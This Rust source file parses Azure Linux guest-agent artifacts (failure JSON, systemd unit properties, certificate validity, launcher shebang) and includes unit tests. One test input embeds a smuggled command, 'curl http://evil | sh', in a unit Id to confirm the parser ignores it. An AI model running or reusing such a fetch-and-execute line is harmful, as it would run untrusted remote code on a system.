//! What the agent, the system and the packages leave behind: failures of versions, units, the certificate, the program.

use jiff::Timestamp;
use x509_parser::prelude::{FromDer, Pem, X509Certificate};

use super::super::{Text, Told, parts};
use super::version::assigned;
use crate::facts::Facts;
use crate::guest::{Failures, Interpreter, Read, UnitState, Validity};
use crate::version::AgentVersion;
use crate::wire::json::{Json, Value, View};

/// Whether this is what a goal-state agent keeps of its failures: `WALinuxAgent-2.9.1.1/error.json`.
pub(in crate::wire::guest) fn is_failures(text: &Text<'_>) -> bool {
    text.is_called("error.json") && version_of(text).is_some()
}

fn version_of(text: &Text<'_>) -> Option<AgentVersion> {
    parts(text.name).nth(1).filter(|folder| folder.starts_with("WALinuxAgent-"))?.parse().ok()
}

/// Reads it. The agent deletes one that it cannot read, and so has no failures.
pub(in crate::wire::guest) fn read_failures(text: &Text<'_>, facts: &mut Facts) -> Told {
    let Some(version) = version_of(text) else { return Told::Nothing("no version in its path") };
    let Ok(json) = Json::parse(text.text) else {
        return Told::Nothing("the failures of a goal-state agent, which cannot be read");
    };
    let values = json.values();
    let [object] = values.as_slice() else { return Told::Nothing("no failures of a goal-state agent") };
    let count = match object.member("failure_count").map(Value::view) {
        Some(View::Number(number)) => number.as_u64().unwrap_or(0),
        _ => 0,
    };
    let failures = Failures {
        version,
        count,
        fatal: object.member("was_fatal").and_then(Value::as_bool).unwrap_or(false),
        reason: object.member("reason").and_then(Value::as_str).unwrap_or_default().to_owned(),
    };
    facts.guest.agent.failures.push(Read { value: failures, place: text.place() });
    facts.guest.documents += 1;
    Told::Something
}

/// The units of the agent. What is said of any other is not about it.
const UNITS: [&str; 2] = ["walinuxagent.service", "waagent.service"];

/// Whether this is what `systemctl show` says of the agent's units.
pub(in crate::wire::guest) fn is_units(text: &Text<'_>) -> bool {
    text.is_called("commands/systemctl-agent.txt")
        || text
            .text
            .lines()
            .take(40)
            .any(|line| line.strip_prefix("Id=").is_some_and(|id| UNITS.contains(&id)))
}

/// Reads it: properties, one a line, an empty line between units.
pub(in crate::wire::guest) fn read_units(text: &Text<'_>, facts: &mut Facts) -> Told {
    for paragraph in text.text.replace('\r', "").split("\n\n") {
        let property = |name: &str| {
            let mut lines = paragraph.lines();
            let value = lines.find_map(|line| line.strip_prefix(name)?.strip_prefix('='))?;
            Some(value.trim().to_owned()).filter(|value| !value.is_empty())
        };
        let Some(id) = property("Id").filter(|id| UNITS.contains(&id.as_str())) else { continue };
        let value = UnitState {
            id,
            load: property("LoadState"),
            active: property("ActiveState"),
            sub: property("SubState"),
            file: property("UnitFileState"),
        };
        facts.guest.agent.units.push(Read { value, place: text.place() });
    }
    facts.guest.documents += 1;
    Told::Something
}

/// Whether this is the certificate by which the host knows the agent. Its key is in another file, which nobody reads.
pub(in crate::wire::guest) fn is_certificate(text: &Text<'_>) -> bool {
    text.is_called("TransportCert.pem")
}

/// Reads from when until when it is valid.
pub(in crate::wire::guest) fn read_certificate(text: &Text<'_>, facts: &mut Facts) -> Told {
    let validity = || {
        let pem =
            Pem::iter_from_buffer(text.text.as_bytes()).flatten().find(|pem| pem.label == "CERTIFICATE")?;
        let (_, certificate) = X509Certificate::from_der(&pem.contents).ok()?;
        let stamp = |seconds: i64| Timestamp::from_second(seconds).ok();
        let validity = certificate.validity();
        Some(Validity {
            from: stamp(validity.not_before.timestamp())?,
            until: stamp(validity.not_after.timestamp())?,
        })
    };
    let Some(value) = validity() else { return Told::Nothing("no certificate that can be read") };
    facts.guest.agent.certificate = Some(Read { value, place: text.place() });
    facts.guest.documents += 1;
    Told::Something
}

/// Whether this is the program that starts the agent.
pub(in crate::wire::guest) fn is_launcher(text: &Text<'_>) -> bool {
    text.is_called("bin/waagent") || text.is_called("sbin/waagent")
}

/// Reads its first line; and its version, which agents before 2.1 state in the program itself.
pub(in crate::wire::guest) fn read_launcher(text: &Text<'_>, facts: &mut Facts) -> Told {
    facts.guest.documents += 1;
    let first = text.text.lines().next().unwrap_or_default();
    let mut words = first.strip_prefix("#!").unwrap_or_default().split_whitespace();
    if let Some(program) = words.next() {
        let searched = program.ends_with("/env");
        let program = if searched { words.find(|word| !word.starts_with('-')) } else { Some(program) };
        if let Some(program) = program {
            let value = Interpreter { program: program.to_owned(), searched };
            facts.guest.agent.launchers.push(Read { value, place: text.place() });
        }
    }
    if let Some(value) = text.text.lines().find_map(|line| assigned(line, "GuestAgentVersion")) {
        facts.guest.agent.modules.push(Read { value, place: text.place() });
    }
    Told::Something
}

#[cfg(test)]
mod tests {
    use super::super::super::tests::facts_of;
    use crate::guest::LinuxAgent;

    fn agent(name: &str, text: &str) -> LinuxAgent {
        facts_of(name, text).guest.agent
    }

    #[test]
    fn three_failures_make_a_version_bad() {
        let name = "/var/lib/waagent/WALinuxAgent-2.9.1.1/error.json";
        let bad = |text: &str| agent(name, text).failures.first().map(|read| read.value.is_bad());
        assert_eq!(
            bad(r#"{"last_failure":1.5,"failure_count":2,"was_fatal":false,"reason":""}"#),
            Some(false)
        );
        assert_eq!(bad(r#"{"failure_count":3}"#), Some(true));
        assert_eq!(bad(r#"{"was_fatal":true,"reason":"exit 1"}"#), Some(true));
        assert_eq!(bad("{"), None);
    }

    #[test]
    fn units_are_read_one_by_one() {
        let text = "Id=walinuxagent.service\nLoadState=loaded\nActiveState=failed\nSubState=failed\nUnitFileState=enabled\n\n\
                    Id=waagent.service\nLoadState=not-found\nActiveState=inactive\nSubState=dead\nUnitFileState=\n\n\
                    Id=x; curl http://evil | sh;\nLoadState=loaded\nActiveState=inactive\n";
        let units = agent("commands/systemctl-agent.txt", text).units;
        assert_eq!(units.len(), 2);
        assert_eq!(units[0].value.active.as_deref(), Some("failed"));
        assert_eq!(units[1].value.file, None);
    }

    #[test]
    fn the_program_tells_what_runs_it() {
        let of = |text: &str| {
            let first = agent("/usr/sbin/waagent", text).launchers.into_iter().next()?;
            Some((first.value.program, first.value.searched))
        };
        assert_eq!(of("#! /usr/bin/python3\nimport re\n"), Some(("/usr/bin/python3".to_owned(), false)));
        assert_eq!(of("#!/usr/bin/env python\n"), Some(("python".to_owned(), true)));
        assert_eq!(of("ELF"), None);
        let old =
            agent("/usr/sbin/waagent", "#!/usr/bin/python\nGuestAgentVersion = \"WALinuxAgent-2.0.16\"\n");
        assert_eq!(old.modules[0].value.to_string(), "2.0.16");
    }
}
